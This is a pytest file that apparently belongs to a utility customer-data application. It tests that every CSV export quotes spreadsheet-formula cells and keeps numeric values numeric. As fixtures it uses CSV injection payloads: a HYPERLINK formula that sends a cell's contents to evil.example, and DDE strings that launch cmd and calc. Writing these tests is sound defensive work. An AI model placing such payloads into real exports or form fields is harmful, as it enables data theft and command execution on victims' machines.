"""CSV formula injection: every CSV Custodian writes (the marketing audience, the decrypted vendor mailing
export, the portal's download, the website statistics, Green Button CSV) shows a hostile value as text, and
keeps numbers numbers. No module writes CSV except through custodian.csvfile."""

import csv
import io
import re
import subprocess

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from conftest import PAPER_FORM, application_for
from custodian.analytics.models import PageView
from custodian.csvfile import csv_writer, runs_as_formula
from custodian.customers.services import customer_enrol
from custodian.disclosures.models import VendorExport
from custodian.portal.models import PortalAccount
from custodian.testing import PROJECT_ROOT, export_text, vendor_with_determination
from custodian.usage.greenbutton_export import UsagePointExport, green_button_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE = {
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "=1+1@example.org",
    "phone": "+1 (507) 555-0199",
    "mailing_address": HYPERLINK,
    "service_address": "\t=2+5, Owatonna, MN 55060",
}


@pytest.fixture
def hostile_customer(db):
    """A customer whose own values are spreadsheet formulas (each one a valid value for its field)."""
    app = application_for(HOSTILE["name"], HOSTILE["email"], HOSTILE["phone"], "0010000666")
    app.personal.update(
        mailing_address=HOSTILE["mailing_address"], service_address=HOSTILE["service_address"]
    )
    return customer_enrol(application=app, submission=PAPER_FORM)


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_no_formula(text: str, where: str):
    dangerous = [c for c in cells(text) if runs_as_formula(c)]
    assert not dangerous, f"{where}: cells a spreadsheet would run: {dangerous}"


def test_the_writer_quotes_formulas_and_keeps_numbers():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", "-2+3", "+x", "@x", "\tx", "\rx", "plain", -1.5, 42, None, True])
    assert cells(out.getvalue()) == [
        "'=1+1",
        "'-2+3",
        "'+x",
        "'@x",
        "'\tx",
        "'\rx",
        "plain",
        "-1.5",
        "42",
        "",
        "True",
    ]


@pytest.mark.parametrize(
    "cell", [" =1+1", "  +x", "\u00a0=1+1", "\u3000@x", "\x00=1+1", "\ufeff=1+1", " \t-1+2"]
)
def test_a_formula_behind_blanks_or_control_characters_is_quoted_too(cell):
    """An import that trims spaces or skips control characters would see the formula first."""
    out = io.StringIO()
    csv_writer(out).writerow([cell, " plain text", "a = b"])
    assert cells(out.getvalue()) == ["'" + cell, " plain text", "a = b"]


def test_the_marketing_audience_csv(hostile_customer, marketer, console):
    response = console(marketer).post(
        "/staff/marketing/", {"customer_class": "", "service": "", "zip_code": "", "confirmed": "1"}
    )
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode()
    assert_no_formula(text, "audience.csv")
    assert "'" + HYPERLINK in cells(text) and "'=1+1@example.org" in cells(text)


def test_the_decrypted_mailing_export(hostile_customer, privacy_officer):
    vendor, private_key = vendor_with_determination(function="mailing", officer=privacy_officer)
    call_command(
        "vendor_export", "--vendor", str(vendor.pk), "--by", privacy_officer.username,
        "--mailing", "A notice of a planned outage", "--customers", str(hostile_customer.pk),
        stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip
    export = VendorExport.objects.get(vendor=vendor)
    text = export_text(export, private_key)
    assert_no_formula(text, "mailing export")
    assert "'" + HYPERLINK in cells(text)


def test_the_portal_download(hostile_customer):
    user = get_user_model().objects.create_user(username="c-hostile", password="x" * 20)
    PortalAccount.objects.create(user=user, customer=hostile_customer, confirmed_at=timezone.now())
    client = Client()
    client.force_login(user)
    response = client.get("/portal/me/download.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode()
    # The mark a spreadsheet program reads the encoding by, then the first section's title.
    assert text.startswith('\ufeff"What we hold about you')
    assert_no_formula(text, "download.csv")
    assert "'" + HYPERLINK in cells(text)


def test_the_website_statistics_csv(db, web_editor, console):
    """Analytics stores only a host name that can't start like a formula; the CSV must not rely on that
    (rows kept from before a rule changed, or a future column), so a hostile row is planted directly."""

    PageView.objects.create(
        at=timezone.now(), path="/", browser="@Browser", os="-1+2", device="desktop", ip_prefix="",
        referrer_host="=cmd|' /C calc'!A0",
    )  # fmt: skip
    today = timezone.localdate().isoformat()
    response = console(web_editor).get("/staff/web/", {"format": "csv", "since": today, "until": today})
    assert response.status_code == 200
    text = response.content.decode()
    assert "'=cmd|' /C calc'!A0" in cells(text) and "'@Browser" in cells(text)
    assert_no_formula(text, "website statistics")


def test_green_button_csv_keeps_negative_readings_numbers():
    point = UsagePointExport(
        key="1", title="electric", service="electric", unit="kWh", readings=[(1_700_000_000, 3600, -1.5)]
    )
    text = green_button_csv([point])
    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[0] == "electric usage")
    assert row[4] == "-1.5"


def product_lines_matching(pattern: str) -> list[str]:
    """The lines of the product's code (not its tests) matching `pattern`, as `path:line:text`."""
    found = subprocess.run(  # noqa: S603
        ["git", "grep", "-nE", pattern, "--", "custodian"], cwd=PROJECT_ROOT, capture_output=True, text=True
    ).stdout.splitlines()
    return [line for line in found if not re.match(r"custodian/(.*/)?tests/", line)]


def test_no_module_writes_csv_except_through_the_one_writer():
    """The class of the mistake: a new CSV writer that forgets to neutralise cells."""
    offenders = [
        line
        for line in product_lines_matching(r"csv\.(writer|DictWriter)\(|from csv import .*[Ww]riter")
        if not line.startswith("custodian/csvfile.py")
    ]
    assert not offenders, f"write CSV with custodian.csvfile.csv_writer: {offenders}"


def test_every_csv_response_says_its_character_set():
    """A CSV sent without its character set is read as Latin-1 by many programs (names, addresses and the
    masked bank digits garbled): every response names it through csvfile.CSV_CONTENT_TYPE."""
    offenders = product_lines_matching("content_type=.text/csv")
    assert not offenders, f"send CSV with content_type=csvfile.CSV_CONTENT_TYPE: {offenders}"
